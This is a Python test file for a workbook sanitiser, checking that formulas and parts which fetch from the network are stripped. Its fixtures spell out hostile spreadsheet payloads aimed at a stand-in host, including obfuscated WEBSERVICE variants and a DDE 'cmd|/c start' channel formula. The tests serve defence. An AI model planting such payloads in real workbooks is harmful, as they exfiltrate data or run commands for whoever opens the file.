"""Formulas and parts of a workbook that fetch from elsewhere are not stored."""

import io

import openpyxl
import pytest

from assets.decoding import excel_formulas
from tests.unit.assets import made_files as made
from tests.unit.assets.cleaned import clean

pytestmark = pytest.mark.slow

SHEET = "xl/worksheets/sheet1.xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ADDRESS = "http://evil.example/d"


def with_cell(cell: str) -> bytes:
    content = made.xlsx_file()
    part = made.entry(content, SHEET).replace(
        b"</sheetData>", f'<row r="9">{cell}</row></sheetData>'.encode()
    )
    assert cell.encode() in part
    return made.rezipped(content, {SHEET: part})


FETCHING = {
    "whole": f'<f>WEBSERVICE("{ADDRESS}")</f>',
    "by references": f'<f>&#87;EB&#x53;ERVICE("{ADDRESS}")</f>',
    "as CDATA": f'<f><![CDATA[WEB]]><!-- x -->SERVICE("{ADDRESS}")</f>',
    "named in full": f'<f>_xlfn.WEBSERVICE ("{ADDRESS}")</f>',
    "a picture": f'<f>_xlfn.IMAGE("{ADDRESS}")</f>',
    "a channel": f"<f>cmd|'/c start {ADDRESS}'!A0</f>",
    "live data": f'<f>RTD("evil","{ADDRESS}","x")</f>',
    "with attributes": f'<f ca=\'1\' xml:space="preserve">WEBSERVICE("{ADDRESS}")</f>',
    "shared": f'<f t="shared" ref="A9:A9" si="0">WEBSERVICE("{ADDRESS}")</f>',
    "imported": f'<f>IMPORTDATA("{ADDRESS}")</f>',
}


@pytest.mark.parametrize("how", FETCHING)
def test_a_formula_that_fetches_is_taken_out_and_what_it_came_to_stays(how: str) -> None:
    cell = f'<c r="A9" t="str">{FETCHING[how]}<v>seen</v></c>'

    stored = clean(with_cell(cell), "Prices.xlsx")

    assert b"evil.example" not in made.everything(stored.content)
    book = openpyxl.load_workbook(io.BytesIO(stored.content), data_only=True)
    assert book["Sheet"]["A9"].value == "seen"


def test_a_formula_that_fetches_nothing_stays() -> None:
    cell = '<c r="A9"><f>IF(A1&gt;1,"a|b",SUM(\'A|B\'!A1))</f><v>1</v></c>'

    stored = clean(with_cell(cell), "Prices.xlsx")

    assert cell.encode() in made.entry(stored.content, SHEET)


@pytest.mark.parametrize(
    "told",
    [
        f'<definedNames><definedName name="x">WEBSERVICE("{ADDRESS}")</definedName></definedNames>',
        (
            f"<definedNames><definedName name='x' hidden='1'>cmd|'{ADDRESS}'!A0</definedName>"
            "</definedNames>"
        ),
    ],
)
def test_a_name_that_fetches_means_nothing_any_more(told: str) -> None:
    content = made.xlsx_file()
    book = made.entry(content, "xl/workbook.xml").replace(
        b"<definedNames/>", b""
    ).replace(b"<calcPr", told.encode() + b"<calcPr")  # fmt: skip
    assert told.encode() in book

    stored = clean(made.rezipped(content, {"xl/workbook.xml": book}), "Prices.xlsx")

    assert b"evil.example" not in made.everything(stored.content)


@pytest.mark.parametrize(
    ("kind", "part"),
    [
        ("connections", "xl/connections.xml"),
        ("queryTable", "xl/queryTables/queryTable1.xml"),
        ("externalLink", "xl/externalLinks/externalLink1.xml"),
        ("customXml", "customXml/item1.xml"),
        ("webextension", "xl/webextensions/webextension1.xml"),
        ("xmlMaps", "xl/xmlMaps.xml"),
        ("pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml"),
    ],
)
def test_parts_that_lead_to_data_elsewhere_are_not_taken_over(kind: str, part: str) -> None:
    content = made.xlsx_file()
    rels = "xl/_rels/workbook.xml.rels"
    link = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="/{part}"/></Relationships>'
    links = made.entry(content, rels).replace(b"</Relationships>", link.encode())
    types = made.entry(content, "[Content_Types].xml").replace(
        b"</Types>",
        f'<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument'
        f'.spreadsheetml.{kind}+xml"/></Types>'.encode(),
    )
    content = made.rezipped(
        content,
        {rels: links, "[Content_Types].xml": types},
        {part: f'<x url="{ADDRESS}"/>'.encode()},
    )

    stored = clean(content, "Prices.xlsx")

    assert b"evil.example" not in made.everything(stored.content)
    assert part.encode() not in made.everything(stored.content)


@pytest.mark.parametrize("cut", range(0, 60, 3))
def test_a_piece_of_a_sheet_is_cut_where_no_formula_is(cut: int) -> None:
    whole = b'<c r="A1"><f>1+1</f><v>2</v></c><c r="A2"><f>WEBSERVICE("x")</f><v>3</v></c>'

    end = excel_formulas.end_of_whole(whole[: cut + 12])
    judged = excel_formulas.without_fetching(whole[:end]) + excel_formulas.without_fetching(
        whole[end:]
    )

    assert judged == whole.replace(b'<f>WEBSERVICE("x")</f>', b"")
